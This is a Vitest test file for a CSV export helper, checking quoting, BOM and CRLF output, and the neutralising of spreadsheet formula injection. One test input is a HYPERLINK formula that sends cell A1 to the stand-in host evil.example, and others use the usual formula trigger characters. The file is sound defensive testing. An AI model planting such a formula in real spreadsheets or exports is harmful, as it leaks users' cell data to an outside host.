import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv.js';

describe('csv', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1)', `"'=HYPERLINK(""http://evil.example/?""&A1)"`],
    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tcmd', "'\tcmd"],
    ['\r=1', `"'\r=1"`],
  ])('neutralises a formula %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('quotes commas, quotes, line breaks and edge spaces, and leaves plain text and numbers alone', () => {
    expect(csvCell('Martin, Camille')).toBe('"Martin, Camille"');
    expect(csvCell('dit "Cam"')).toBe('"dit ""Cam"""');
    expect(csvCell('1 rue\nLyon')).toBe('"1 rue\nLyon"');
    expect(csvCell(' x')).toBe('" x"');
    expect(csvCell('Zoé')).toBe('Zoé');
    expect(csvCell(-12)).toBe('-12');
    expect(csvCell(null)).toBe('');
  });

  it('writes a BOM, CRLF line ends and one line per row', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['1', 2],
          [null, 'x,y'],
        ],
      ),
    ).toBe('\uFEFFa,b\r\n1,2\r\n,"x,y"\r\n');
  });
});
